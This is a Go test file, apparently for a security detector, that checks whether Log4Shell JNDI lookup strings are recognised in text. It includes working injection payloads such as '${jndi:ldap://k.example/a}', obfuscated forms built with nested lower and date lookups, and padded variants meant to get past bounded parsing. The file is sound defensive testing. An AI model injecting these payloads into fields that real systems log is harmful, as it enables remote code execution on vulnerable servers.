package rce

import (
	"strings"
	"testing"

	"github.com/weirnode/weir/point"
)

// TestToldLookups reads lookups as texts about them have them, and such as find something behind one.
func TestToldLookups(t *testing.T) {
	for text, want := range map[string]bool{
		"${jndi:ldap} is looked up":                       false,
		"Log4Shell, ${jndi:ldap://...}, for my manager":   false,
		"lookups such as ${jndi:ldap://…} in names":       false,
		"${jndi:ldap://...}${jndi:ldap://k.example/a}":    true,
		"${jndi:ldap://.../a}":                            true,
		"${jndi:${lower:l}dap://k.example/a}":             true,
		"${jndi:ldap}${${lower:j}ndi:ldap://k.example/a}": true,
		"${jndi:dns://k.example}":                         true,
	} {
		best := detector.Read(text, point.Text)
		if got := best.Count(jndi.Stamp) > 0; got != want {
			t.Errorf("%s: found %v", text, got)
		}
	}
}

// TestPaddedLookups puts harmless lookups and text around one, as many as no bound holds.
func TestPaddedLookups(t *testing.T) {
	const attack = "${${lower:j}${date:'n'}di:dns://k.example}"
	for _, pad := range []string{"${date:yyyy}", "${x:-a}", "${a", "${a:-", "${a}b", "a", "}", "${lower:a:-b}", "$"} {
		for _, n := range []int{1, 20, 600} {
			many := strings.Repeat(pad, n)
			for _, text := range []string{many + " " + attack, attack + many, "${x:-" + many + "}" + attack, "${" + strings.Repeat("n", n) + ":-" + attack + "}"} {
				best := detector.Read(text, point.Text)
				if best.Count(jndi.Stamp) == 0 {
					t.Errorf("%d times %s is not seen through: %.80s", n, pad, text)
				}
			}
		}
	}
}
